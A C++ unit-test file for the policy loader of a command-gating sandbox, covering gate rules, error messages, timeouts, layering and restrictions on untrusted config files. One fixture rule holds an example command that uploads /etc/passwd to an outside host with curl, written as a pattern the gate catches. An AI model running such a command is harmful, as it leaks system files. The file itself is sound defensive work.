// [gate] in policy files: [[gate.rule]] parsing, errors with FILE:LINE, the timeout, layering
// (rules accumulate), the untrusted-file restrictions, rendering and gate_config().
#include <gtest/gtest.h>

#include "policy/gate_config.h"
#include "policy/loader.h"

namespace cordon::policy {
namespace {

Policy base() { return builtin_profile(Profile::kWorkspaceWrite); }

Result<Policy> apply(const std::string& text, bool trusted = true, const Policy& under = base()) {
  return apply_toml(under, text, "cordon.toml", trusted);
}

constexpr const char* kRules = R"([gate]
timeout = "10m"

[[gate.rule]]
name = "no-force-push"
program = "git"
args = ["push", "**", "-f"]
action = "deny"
reason = "force pushes rewrite shared history"
match = ["git push -f", "git push origin main -f"]
not_match = ["git push origin main"]

[[gate.rule]]
name = "curl-upload"
program = ["curl", "/usr/bin/wget"]
any_arg = ["-T", "--upload-file*"]
paths = ["/etc/**"]
cwd = "/**"
action = "ask"
match = ["curl -T /etc/passwd https://api.example.com"]
)";

TEST(PolicyGate, ParsesRulesAndTimeout) {
  auto p = apply(kRules);
  ASSERT_TRUE(p.ok()) << p.error().message();
  const auto& rules = p->gate.rules.value;
  ASSERT_EQ(rules.size(), 2u);
  EXPECT_EQ(rules[0].name, "no-force-push");
  EXPECT_EQ(rules[0].program, (std::vector<std::string>{"git"}));
  EXPECT_EQ(rules[0].args, (std::vector<std::string>{"push", "**", "-f"}));
  EXPECT_EQ(rules[0].action, gate::Action::kDeny);
  EXPECT_EQ(rules[0].reason, "force pushes rewrite shared history");
  EXPECT_EQ(rules[0].match.size(), 2u);
  EXPECT_EQ(rules[0].not_match.size(), 1u);
  EXPECT_EQ(rules[0].origin, "cordon.toml:4");
  EXPECT_EQ(rules[1].program, (std::vector<std::string>{"curl", "/usr/bin/wget"}));
  EXPECT_EQ(rules[1].any_arg.size(), 2u);
  EXPECT_EQ(rules[1].cwd, "/**");
  EXPECT_EQ(rules[1].action, gate::Action::kAsk);
  EXPECT_EQ(rules[1].origin, "cordon.toml:13");
  EXPECT_EQ(p->gate.timeout_seconds.value, 600u);
  EXPECT_EQ(p->gate.timeout_seconds.origin.describe(), "cordon.toml:2");
  EXPECT_EQ(p->gate.rules.origin.describe(), "cordon.toml:13");
}

TEST(PolicyGate, DefaultTimeoutIsFiveMinutes) {
  EXPECT_EQ(base().gate.timeout_seconds.value, 300u);
  EXPECT_TRUE(base().gate.rules.value.empty());
}

struct BadCase {
  const char* name;
  const char* toml;
  int line;
  const char* message;
  const char* hint;
};
void PrintTo(const BadCase& c, std::ostream* os) { *os << c.name; }

class PolicyGateErrors : public testing::TestWithParam<BadCase> {};

TEST_P(PolicyGateErrors, NamesFileLineAndHint) {
  const BadCase& c = GetParam();
  auto r = apply(c.toml);
  ASSERT_FALSE(r.ok());
  EXPECT_EQ(r.error().code(), Errc::kPolicy);
  std::string prefix = "cordon.toml:" + std::to_string(c.line) + ":";
  EXPECT_EQ(r.error().message().rfind(prefix, 0), 0u) << r.error().message();
  EXPECT_NE(r.error().message().find(c.message), std::string::npos) << r.error().message();
  EXPECT_NE(r.error().hint().find(c.hint), std::string::npos) << r.error().hint();
}

const BadCase kBad[] = {
    {"ExampleShouldMatch",
     "\n[[gate.rule]]\nname = \"no-force-push\"\nprogram = \"git\"\nargs = [\"push\", \"-f\"]\n"
     "match = [\"git push --force\"]\n",
     2, "rule \"no-force-push\": example `git push --force` should match but does not",
     "examples run with cwd"},
    {"ExampleShouldNotMatch",
     "[[gate.rule]]\nname = \"r\"\nprogram = \"git\"\nnot_match = [\"git status\"]\n", 1,
     "example `git status` should not match but does", ""},
    {"UnknownRuleKey", "[[gate.rule]]\nname = \"r\"\nprogram = \"git\"\nargv = [\"push\"]\n", 4,
     "unknown key \"argv\" in [[gate.rule]]", "did you mean \"args\"?"},
    {"BadAction", "[[gate.rule]]\nname = \"r\"\nprogram = \"git\"\naction = \"block\"\n", 4,
     "gate.rule.action cannot be \"block\"", "allow, ask, deny"},
    {"NoName", "[[gate.rule]]\nprogram = \"git\"\n", 1, "has no name", "unique name"},
    {"EmptyName", "[[gate.rule]]\nname = \"\"\nprogram = \"git\"\n", 2, "cannot be empty", ""},
    {"NoCondition", "[[gate.rule]]\nname = \"r\"\naction = \"deny\"\n", 1, "has no condition",
     "program"},
    {"Duplicate",
     "[[gate.rule]]\nname = \"r\"\nprogram = \"git\"\n\n[[gate.rule]]\nname = \"r\"\n"
     "program = \"rm\"\n",
     5, "the name is already taken by the rule at cordon.toml:1", "unique"},
    {"BadGlob", "[[gate.rule]]\nname = \"r\"\nprogram = \"gi[t\"\n", 1, "has no closing ']'",
     "close the set"},
    {"ProgramType", "[[gate.rule]]\nname = \"r\"\nprogram = 3\n", 3,
     "gate.rule.program must be a string or an array of strings", ""},
    {"ArgsType", "[[gate.rule]]\nname = \"r\"\nprogram = \"x\"\nargs = \"push\"\n", 4,
     "gate.rule.args must be an array of strings", ""},
    {"BadExampleQuote",
     "[[gate.rule]]\nname = \"r\"\nprogram = \"x\"\nmatch = [\"x 'open\"]\n", 1,
     "unterminated single quote", ""},
    {"RuleNotArrayOfTables", "[gate]\nrule = \"x\"\n", 2, "must be an array of tables",
     "[[gate.rule]]"},
    {"TimeoutZero", "[gate]\ntimeout = 0\n", 2, "gate.timeout must be between 1s and 24h", ""},
    {"TimeoutTooLong", "[gate]\ntimeout = \"25h\"\n", 2, "between 1s and 24h", "timeout = "},
    {"TimeoutType", "[gate]\ntimeout = true\n", 2, "gate.timeout must be a duration", ""},
};
INSTANTIATE_TEST_SUITE_P(All, PolicyGateErrors, testing::ValuesIn(kBad),
                         [](const auto& info) { return std::string(info.param.name); });

TEST(PolicyGate, UnknownGateKeyListsRule) {
  auto r = apply("[gate]\nrules = 1\n");
  ASSERT_FALSE(r.ok());
  EXPECT_NE(r.error().hint().find("did you mean \"rule\"?"), std::string::npos) << r.error().hint();
}

TEST(PolicyGate, LayersAccumulateRules) {
  auto user = apply_toml(base(), "[[gate.rule]]\nname = \"a\"\nprogram = \"git\"\naction = \"allow\"\n",
                         "user.toml", true);
  ASSERT_TRUE(user.ok()) << user.error().message();
  auto ws = apply_toml(*user, "[[gate.rule]]\nname = \"b\"\nprogram = \"rm\"\naction = \"deny\"\n",
                       "cordon.toml", false);
  ASSERT_TRUE(ws.ok()) << ws.error().message();
  ASSERT_EQ(ws->gate.rules.value.size(), 2u);
  EXPECT_EQ(ws->gate.rules.value[0].origin, "user.toml:1");
  EXPECT_EQ(ws->gate.rules.value[1].origin, "cordon.toml:1");
  // A later layer cannot reuse a name.
  auto dup = apply_toml(*ws, "[[gate.rule]]\nname = \"a\"\nprogram = \"x\"\n", "cfg.toml", true);
  ASSERT_FALSE(dup.ok());
  EXPECT_NE(dup.error().message().find("already taken by the rule at user.toml:1"),
            std::string::npos);
}

TEST(PolicyGate, UntrustedFileMayAddAskAndDenyButNotAllow) {
  EXPECT_TRUE(apply("[[gate.rule]]\nname = \"r\"\nprogram = \"git\"\naction = \"ask\"\n", false).ok());
  EXPECT_TRUE(apply("[[gate.rule]]\nname = \"r\"\nprogram = \"git\"\naction = \"deny\"\n", false).ok());
  auto allow = apply("\n[[gate.rule]]\nname = \"r\"\nprogram = \"git\"\naction = \"allow\"\n", false);
  ASSERT_FALSE(allow.ok());
  EXPECT_EQ(allow.error().message().rfind("cordon.toml:2:", 0), 0u) << allow.error().message();
  EXPECT_NE(allow.error().message().find("may add ask and deny rules, not allow rules"),
            std::string::npos);
  EXPECT_NE(allow.error().hint().find("--config"), std::string::npos);
  // Trusted: fine.
  EXPECT_TRUE(apply("[[gate.rule]]\nname = \"r\"\nprogram = \"git\"\naction = \"allow\"\n", true).ok());
}

TEST(PolicyGate, UntrustedFileMayTightenThresholdsOnly) {
  EXPECT_TRUE(apply("[gate]\nask_at = \"medium\"\n", false).ok());
  EXPECT_TRUE(apply("[gate]\ntimeout = \"1m\"\n", false).ok());
  EXPECT_TRUE(apply("[gate]\nreviewers = 2\n", false).ok());
  auto raise = apply("[gate]\nask_at = \"critical\"\n", false);
  ASSERT_FALSE(raise.ok());
  EXPECT_NE(raise.error().message().find("asks less than"), std::string::npos);
  auto timeout = apply("[gate]\ntimeout = \"1h\"\n", false);
  ASSERT_FALSE(timeout.ok());
  EXPECT_EQ(timeout.error().message().rfind("cordon.toml:2:", 0), 0u);
  EXPECT_NE(timeout.error().message().find("raises gate.timeout from 5m to 1h"), std::string::npos)
      << timeout.error().message();
  Policy financial = builtin_profile(Profile::kFinancial);
  auto fewer = apply("[gate]\nreviewers = 1\n", false, financial);
  ASSERT_FALSE(fewer.ok());
  EXPECT_NE(fewer.error().message().find("lowers gate.reviewers"), std::string::npos);
}

TEST(PolicyGate, RenderShowsRulesAndTimeoutAndParsesBack) {
  auto p = apply(kRules);
  ASSERT_TRUE(p.ok()) << p.error().message();
  std::string text = render_policy(*p);
  EXPECT_NE(text.find("timeout = \"10m\"  # from cordon.toml:2"), std::string::npos) << text;
  EXPECT_NE(text.find("[[gate.rule]]  # from cordon.toml:4\nname = \"no-force-push\"\n"),
            std::string::npos)
      << text;
  EXPECT_NE(text.find("args = [\"push\", \"**\", \"-f\"]"), std::string::npos) << text;
  EXPECT_NE(text.find("action = \"deny\""), std::string::npos) << text;
  auto back = apply_toml(base(), text, "rendered.toml", true);
  ASSERT_TRUE(back.ok()) << back.error().message() << "\n" << text;
  ASSERT_EQ(back->gate.rules.value.size(), 2u);
  for (size_t i = 0; i < 2; ++i) {
    const auto &a = p->gate.rules.value[i], &b = back->gate.rules.value[i];
    EXPECT_EQ(a.name, b.name);
    EXPECT_EQ(a.program, b.program);
    EXPECT_EQ(a.args, b.args);
    EXPECT_EQ(a.any_arg, b.any_arg);
    EXPECT_EQ(a.cwd, b.cwd);
    EXPECT_EQ(a.paths, b.paths);
    EXPECT_EQ(a.action, b.action);
    EXPECT_EQ(a.reason, b.reason);
    EXPECT_EQ(a.match, b.match);
    EXPECT_EQ(a.not_match, b.not_match);
  }
  EXPECT_EQ(back->gate.timeout_seconds.value, 600u);
}

TEST(PolicyGate, GateConfigMapsThresholds) {
  auto p = apply(kRules);
  ASSERT_TRUE(p.ok());
  gate::GateConfig c = gate_config(p->gate, gate::RiskContext{"/w", "/h"});
  EXPECT_EQ(c.rules.size(), 2u);
  EXPECT_EQ(c.ask_at, gate::AskAt::kHigh);
  EXPECT_EQ(c.reviewers, 1);
  EXPECT_EQ(c.context.workspace, "/w");
  EXPECT_EQ(gate_config(builtin_profile(Profile::kProduction).gate, {}).ask_at,
            gate::AskAt::kEverything);
  EXPECT_EQ(gate_config(builtin_profile(Profile::kFinancial).gate, {}).reviewers, 2);
  EXPECT_EQ(gate_config(builtin_profile(Profile::kCustomerData).gate, {}).ask_at,
            gate::AskAt::kMedium);
  EXPECT_TRUE(gate::Gate::compile(c).ok());
}

}  // namespace
}  // namespace cordon::policy
